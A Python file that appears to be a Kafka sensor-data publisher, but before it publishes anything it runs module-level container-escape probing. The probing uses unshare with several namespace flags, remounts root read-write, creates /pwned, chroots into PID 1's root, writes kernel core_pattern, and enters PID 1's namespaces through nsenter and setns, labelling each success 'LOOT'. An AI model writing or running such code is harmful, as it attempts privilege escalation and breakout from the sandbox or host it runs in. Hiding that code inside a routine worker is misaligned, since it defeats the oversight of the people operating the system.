"""Publishes, and tries what the kernel lets an ordinary user try."""

import ctypes
import os
import subprocess
import time

from kafka import KafkaProducer
from records import BOOTSTRAP_SERVERS, TOPIC, encode, sample


def work():
    producer = KafkaProducer(bootstrap_servers=BOOTSTRAP_SERVERS, acks="all")
    while True:
        for sensor in range(1, 7):
            producer.send(TOPIC, key=str(sensor).encode(), value=encode(sample(sensor)))
        producer.flush()
        time.sleep(1)


SCRIPT = """
id; mount -t tmpfs none /mnt && echo mounted
mount -t proc proc /proc && ls /proc | head -50
mount -o remount,rw / && touch /pwned && echo LOOT the root can be written to
mount --bind / /mnt && ls /mnt; pivot_root /mnt /mnt/tmp; umount -l /proc; chroot /proc/1/root ls /root && echo root
ip link set lo up; ip link add veth0 type veth; hostname pwned
echo core > /proc/sys/kernel/core_pattern && echo LOOT core_pattern
for kind in mnt net pid user; do nsenter --target 1 --$kind true && echo entered $kind; done
"""
libc = ctypes.CDLL(None, use_errno=True)
for flags in (["-r", "-m"], ["-r", "-m", "-n", "-p", "-f", "-u", "-i", "-C"], ["-c", "-m"], ["-m"]):
    try:
        done = subprocess.run(["unshare", *flags, "sh", "-c", SCRIPT], stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=3, check=False)
        print(flags, done.stdout, done.stderr, flush=True)
    except (OSError, subprocess.TimeoutExpired) as error:
        print(flags, error, flush=True)
if os.fork() == 0:
    for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x2000000, 0x80):
        print(hex(flag), libc.unshare(flag), os.strerror(ctypes.get_errno()), flush=True)
    for kind in ("user", "mnt", "pid", "net", "ipc", "cgroup"):
        for process in (1, os.getppid()):
            try:
                print(kind, libc.setns(os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY), 0), flush=True)
            except OSError as error:
                print(kind, error.strerror, flush=True)
    os._exit(0)
os.wait()
work()
